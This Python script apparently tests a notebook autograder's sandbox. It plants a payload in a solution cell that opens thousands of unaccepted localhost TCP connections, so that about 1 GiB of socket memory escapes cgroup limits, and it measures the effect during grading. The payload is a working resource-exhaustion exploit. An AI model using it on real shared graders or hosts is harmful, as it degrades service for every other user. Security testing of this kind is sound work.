"""a03 (re-attack of round 13's TCP fix): round 13 capped a sandbox's TCP buffers on cgroup v1 by writing
memory.kmem.tcp.limit_in_bytes (256 MiB, counted apart from the 6 GiB memory.limit_in_bytes). A socket is charged
to a memory cgroup only from a process's context; a connection that waits in a listener's accept queue was made by
the kernel in softirq and is charged to nobody until accept() runs. So a kernel that connects to its own
listeners, sends one window (~64 KiB) on each connection, closes its end and never accepts keeps the data in
sockets no cgroup counts (bounded only by the host-wide net.ipv4.tcp_mem, shared by every TCP socket of the host).
Graded through the shipped `python -m tools.grade` (caps as shipped). Honest control: the solution."""
import os, sys, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common14 import course, grade, show, honest_nb, notebook, outputs, cleanup, my_cgroups, tcp_mem_bytes  # noqa: E402

DEST = "/tmp/attack14-a03"
CONNECTIONS = 16000   # ~62 KiB each: about 1 GiB, below this host's tcp_mem pressure threshold (1.46 GiB)

PAYLOAD = f'''
import socket as _s, time as _t
def _tcp_mem():
    for l in open("/proc/net/sockstat"):
        if l.startswith("TCP:"):
            f = l.split(); return int(f[f.index("mem") + 1]) * 4096
_base = _tcp_mem(); _keep = []; _sent = 0; _t0 = _t.time()
for _i in range({CONNECTIONS}):
    if _i % 4000 == 0:
        _l = _s.socket(); _l.bind(("127.0.0.1", 0)); _l.listen(4096); _keep.append(_l); _port = _l.getsockname()[1]
    _c = _s.socket(); _c.connect(("127.0.0.1", _port)); _sent += _c.send(b"x" * 60000); _c.close()
print(f"A14: {{_i + 1}} connections on {{len(_keep)}} listeners in {{_t.time() - _t0:.1f}} s, {{_sent / 2**20:.0f}} MiB sent, "
      f"host TCP mem +{{(_tcp_mem() - _base) / 2**20:.0f}} MiB", flush=True)
for _k in range(10):
    _t.sleep(2)
    print(f"A14 t+{{2 * _k + 2}}s: host TCP mem +{{(_tcp_mem() - _base) / 2**20:.0f}} MiB", flush=True)
'''


def mutate(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":   # a solution cell (setup is locked)
            c.source = PAYLOAD


rows, stop = [], False


def sample():
    t0 = time.time()
    while not stop:
        cg = my_cgroups()
        rows.append((time.time() - t0, tcp_mem_bytes(), cg))
        time.sleep(0.5)


dest = course(DEST, {"alice_honest": honest_nb(), "mallory": notebook(mutate=mutate)})
base = tcp_mem_bytes()
th = threading.Thread(target=sample, daemon=True)
th.start()
grade(dest)
stop = True
th.join()
peak = max(rows, key=lambda r: r[1])
print(f"host TCP memory before grading: {base / 2**20:.0f} MiB; peak during grading: {peak[1] / 2**20:.0f} MiB "
      f"(+{(peak[1] - base) / 2**20:.0f} MiB) at t={peak[0]:.1f}s")
print("this run's sandbox memory cgroups at that moment (usage / TCP usage / TCP limit / memory limit, MiB):")
for name, v in peak[2].items():
    print(f"  {name}: {v['usage_in_bytes'] >> 20} / {v['kmem.tcp.usage_in_bytes'] >> 20} / "
          f"{v['kmem.tcp.limit_in_bytes'] >> 20} / {v['limit_in_bytes'] >> 20}")
tcp_max = max((v["kmem.tcp.max_usage_in_bytes"] for _, _, cg in rows for v in cg.values()), default=0)
print(f"largest TCP usage any of this run's sandbox cgroups ever recorded (kmem.tcp.max_usage): {tcp_max / 2**20:.0f} MiB")
show(dest)
print("mallory's cell output:")
import nbformat  # noqa: E402
nb = nbformat.read(os.path.join(dest, "autograded", "mallory", "ps1_memory", "ps1_memory.ipynb"), 4)
for c in nb.cells:
    for o in c.get("outputs", []):
        t = o.get("text") or (o.get("ename", "") + ": " + o.get("evalue", "")) if o.get("output_type") != "display_data" else ""
        if "A14" in t or c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
            print(o.get("output_type"), t[:3000])
cleanup(DEST)
print("cleaned up", DEST)
